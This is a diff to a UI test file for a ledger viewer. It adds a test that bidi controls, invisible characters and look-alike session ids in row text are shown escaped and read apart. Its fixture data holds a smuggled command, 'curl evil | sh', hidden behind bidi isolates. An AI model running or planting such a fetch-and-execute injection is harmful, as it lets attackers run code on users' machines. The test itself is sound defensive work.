@@ -5,7 +5,9 @@
 // own origin and the origins it lists still work, and a row id `..` must not
 // walk the hub out of its routes); a handoff names a grant that is no
 // grant of its (an operator's note, another session's, a later one) and
-// must not read as human authority; row values try to become classes and
+// must not read as human authority; bidi and invisible characters in row
+// text and look-alike ids try to be read as something else; row values try
+// to become classes and
 // colours; ids that no address can hold, duplicate ids and a time that is
 // not a number try to break a view; and values as long as the protocol
 // allows try to widen the page. Every server listens on 127.0.0.1.
@@ -211,6 +213,39 @@ for (const vp of viewports) {
     await page.close();
   });
 
+  test(`${vp.name}: row text is shown as the core shows it, never obeyed, and look-alike ids read apart`, async () => {
+    const { page, errors } = await openApp(vp);
+    const command = 'npm test -- peer \u2067&& curl evil | sh\u2069 #';
+    const ad = demo.events.find((e) => e.eventType === 'work_ad' && e.id === 'ad-ci-2');
+    const lookalikes = ['sess-api', 'sess-api\u200B', 'sess-\u0430pi', 'sess-\u202Eipa'];
+    const ledger = {
+      ...demo,
+      events: [
+        ...demo.events.map((e) => (e.id === 'rc-review-2'
+          ? row('rc-review-2', { summary: 'Peer tests \u202Edeliaf\u202C', payloadJson: payload('rc-review-2', { checks: [{ command, exit_code: 0, passed: true }] }) })
+          : e)),
+        ...lookalikes.map((session, i) => ({ ...ad, id: `ad-look-${i}`, sourceRef: session, relatedSessionId: session, expiresAt: null })),
+      ],
+    };
+    assert.equal((await setLedger(page, ledger))[0]?.type, 'hapi-ledger-open');
+    const shown = () => page.evaluate(() => document.querySelector('hapi-ledger-view').shadowRoot.textContent);
+    const hidden = /[\u200B-\u200F\u202A-\u202E\u2066-\u2069]/;
+    let all = await shown();
+    assert.doesNotMatch(all, hidden, 'the fleet shows no bidi or invisible character as written');
+    const sessions = await page.locator('tr[data-session^="sess-"] .session-link, tr[data-session^="sess-"] code').allTextContents();
+    const look = sessions.filter((t) => /^sess-/.test(t));
+    assert.equal(new Set(look).size, look.length, `look-alike ids read apart: ${JSON.stringify(look)}`);
+    assert.ok(look.includes('sess-<U+0430>pi') && look.includes('sess-api<U+200B>'), JSON.stringify(look));
+    await page.evaluate(() => { location.hash = '#handoff=ho-review'; });
+    await page.waitForSelector('[data-receipt="rc-review-2"] .checks');
+    all = await shown();
+    assert.doesNotMatch(all, hidden, 'the thread shows no bidi or invisible character as written');
+    assert.match(all, /npm test -- peer <U\+2067>&& curl evil \| sh<U\+2069> #/);
+    assert.match(all, /Peer tests <U\+202E>deliaf<U\+202C>/);
+    assert.deepEqual(errors, []);
+    await page.close();
+  });
+
   test(`${vp.name}: row values never become classes, and only a verdict colours a badge`, async () => {
     const { page, errors } = await openApp(vp);
     const check = (passed, exit) => ({ command: 'npm test', exit_code: exit, passed, started_at: demo.now - 1000, completed_at: demo.now - 500 });
@@ -251,7 +286,8 @@ for (const vp of viewports) {
     const statusOf = (selector) => page.locator(selector).first().evaluate((b) => ({ text: b.textContent, classes: [...b.classList], bg: getComputedStyle(b).backgroundColor }));
     const fake = await statusOf('[data-receipt="rc-review-2"] > p .badge');
     const real = await statusOf('#thread-outcome .badge');
-    assert.equal(fake.text, 'completed\u200B');
+    // Shown as the core shows it: the zero-width space visible.
+    assert.equal(fake.text, 'completed<U+200B>');
     assert.deepEqual(fake.classes, ['badge', 'status-unknown']);
     assert.equal(real.text, 'incomplete', 'the outcome is the core\'s: a status it does not know decides nothing');
     // No class in the receipt holds row text.
@@ -261,7 +297,7 @@ for (const vp of viewports) {
     const ad = await statusOf('tr[data-session="sess-old"] .badge');
     const done = await statusOf('tr[data-session="sess-ci"] .badge');
     assert.equal(done.text, 'done');
-    assert.equal(ad.text, 'done\u200B');
+    assert.equal(ad.text, 'done<U+200B>');
     assert.deepEqual(ad.classes, ['badge', 'status-unknown']);
     assert.notEqual(ad.bg, done.bg);
     assert.deepEqual(errors, []);
